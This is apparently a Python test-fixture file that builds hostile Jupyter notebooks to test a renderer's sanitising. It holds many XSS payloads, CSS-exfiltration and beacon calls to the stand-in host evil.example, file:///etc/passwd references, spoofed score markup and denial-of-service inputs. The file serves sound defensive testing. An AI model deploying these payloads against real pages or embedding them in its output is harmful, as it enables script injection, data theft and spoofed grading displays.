"""What a notebook can hold to do harm to whoever opens the page."""

from __future__ import annotations

from notebooks import DEFINITION, code, notebook, png, printed, shown, words

MARKUP = {
    "script": "<script>alert(1)</script>",
    "script split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload": "<body onload=alert(1)><svg onload=alert(1)>",
    "onfocus": "<input autofocus onfocus=alert(1)><a autofocus tabindex=1 onfocus=alert(1)>x</a>",
    "javascript link": '<a href="javascript:alert(1)">x</a><a href="JaVa\tScRiPt:alert(1)">y</a><a href="&#1;javascript:alert(1)">z</a>',
    "vbscript and data links": '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">y</a>',
    "data document": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe><object data="data:text/html,x"></object>',
    "srcdoc": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "form": '<form action="https://evil.example/"><button>send</button><input name=q formaction=javascript:alert(1)></form>',
    "style sheet": "<style>body{background:url(https://evil.example/a)} *{display:none}</style><link rel=stylesheet href=https://evil.example/a>",
    "style attribute": '<div style="background:url(https://evil.example/b);position:fixed;inset:0">over everything</div>',
    "css exfiltration": "<style>input[value^=a]{background:url(https://evil.example/a)}</style>@import url(https://evil.example/c);",
    "far picture": '<img src="https://evil.example/p.png"><img srcset="https://evil.example/q.png 1x"><picture><source srcset=//evil.example/r></picture>',
    "local file": '<img src="file:///etc/passwd"><img src="/etc/hostname"><a href="file:///etc/passwd">x</a>',
    "svg": '<svg><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s><use href="data:image/svg+xml,x"/></svg>',
    "svg picture": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "template": "<template><script>alert(1)</script></template>{{ 7 * 7 }}{% raw %}",
    "close everything": "</div></pre></section></main></body></html><h1>10 / 10 points</h1>",
    "open everything": "<div><table><tr><td><pre><!-- <textarea><title><plaintext>",
    "comment": "<!--[if IE]><script>alert(1)</script><![endif]--><!-- --!><script>alert(1)</script>",
    "looks of ours": '<section class="exercise full" id="exercise-f"><p class="score">10 / 10</p></section><div id="main" class="cell beside">full marks</div>',
    "names": '<a name="body" id="exercise-f" href="#exercise-f">x</a><img name=cookie id=getElementById>',
    "events of media": "<video autoplay src=https://evil.example/v onplay=alert(1)></video><audio src=x onerror=alert(1)><details ontoggle=alert(1) open>",
    "embed": "<embed src=https://evil.example/e><applet code=x><frameset><frame src=javascript:alert(1)>",
    "portal": '<link rel=prefetch href=https://evil.example/><link rel="dns-prefetch" href="//evil.example"><a ping=https://evil.example/ href=https://example.org>x</a>',
    "null bytes": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
    "turned round": "&#x202e;evil&#x2066;\u202egnp.exe\u200b",
    "nested": "<div>" * 5000 + "x",
    "attributes": "<b " + " ".join(f"a{i}=1" for i in range(3000)) + ">x</b>",
}  # fmt: skip
"""Raw HTML, which may stand in Markdown and in outputs."""

MARKDOWN = {
    "link": "[x](javascript:alert(1)) [y](JAVASCRIPT:alert(1)) [z](java\tscript:alert(1)) [w](\x01javascript:alert(1))",
    "reference": "[x][1]\n\n[1]: javascript:alert(1) 'title'",
    "auto": "<javascript:alert(1)> <data:text/html,x>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "picture": "![x](https://evil.example/a.png) ![y](javascript:alert(1)) ![z](file:///etc/passwd)",
    "title": '[x](https://example.org "a\\" onmouseover=alert(1) b") ![a" onerror=alert(1) "](x)',
    "fence": '```"><script>alert(1)</script>\nx\n```\n```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]\n```',
    "math": "$<img src=x onerror=alert(1)>$ \\begin{a}<script>alert(1)</script>\\end{a}",
    "missing attachment": "![x](attachment:gone.png)",
    "heading": "# <script>alert(1)</script>\n## [x](javascript:alert(1))",
    "deep": "> " * 400 + "x\n" + "\n".join("  " * i + "- a" for i in range(200)),
    "brackets": "[" * 9000 + "](" * 3000,
}

OUTPUTS = {
    "javascript": shown(application_javascript="alert(1)", text_plain="x"),
    "svg": shown(**{"image_svg+xml": "<svg onload=alert(1)><script>alert(1)</script></svg>"}),
    "png that is none": shown(image_png='x" onerror="alert(1)'),
    "png that is html": shown(image_png="PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    "png of a gigapixel": shown(image_png=png(60_000, 60_000)),
    "widget": shown(**{"application_vnd.jupyter.widget-view+json": {"model_id": "</script><script>alert(1)</script>"}}),
    "latex": shown(text_latex="$\\href{javascript:alert(1)}{x}$<script>alert(1)</script>"),
    "markdown": shown(text_markdown="[x](javascript:alert(1))<script>alert(1)</script>"),
    "strange kinds": shown(**{"text_<script>alert(1)</script>": "x"}),
    "escapes": printed("\x1b]0;owned\x07\x1b[2J\x1b[38;5;999m<b>\x1b[31;1m\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[999999999999999999m"),
    "error": {"output_type": "error", "ename": "<img src=x onerror=alert(1)>", "evalue": "", "traceback": ["\x1b[31m<script>alert(1)</script>"]},
    "no dictionary": {"output_type": "display_data", "data": ["x"], "metadata": None},
    "numbers": {"output_type": "stream", "name": 7, "text": 9},
}  # fmt: skip


def notebooks():
    """Each by its name, as text."""
    for name, markup in MARKUP.items():
        yield f"markup in prose: {name}", notebook(code(), words(markup), words(f"text {markup} text"))
        yield f"markup in an output: {name}", notebook(code(DEFINITION, shown(text_html=markup), printed(markup)))
    for name, text in MARKDOWN.items():
        yield f"prose: {name}", notebook(code(), words(text), words("after"))
    for name, output in OUTPUTS.items():
        yield f"output: {name}", notebook(code(DEFINITION, output, printed("after")))
    evil = "</script><script>alert(1)</script>"
    yield "metadata", notebook(
        code(),
        {**code("x"), "metadata": {"tags": [f'"><img src=x onerror=alert(1)>{evil}'], "collapsed": evil}, "id": f'"{evil}'},
        title=evil, widgets={"application/vnd.jupyter.widget-state+json": {"state": {evil: {}}}},
        language_info={"name": "python", "pygments_lexer": evil, "mimetype": evil},
    )  # fmt: skip
    yield "source", notebook(code(f"{DEFINITION}# {evil}\n'''{evil}'''\n\x00\x1b[2J\u202e<!--"))
    yield "attachments", notebook(
        code(),
        words("![x](attachment:a.svg) ![y](attachment:b)", **{
            "a.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"}, "b": {'image/png"><script>': evil}}),
    )  # fmt: skip
    yield "raw", notebook(code(), {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": evil})
    yield "unknown cells", notebook(code(), {"cell_type": evil, "metadata": {}, "source": evil})
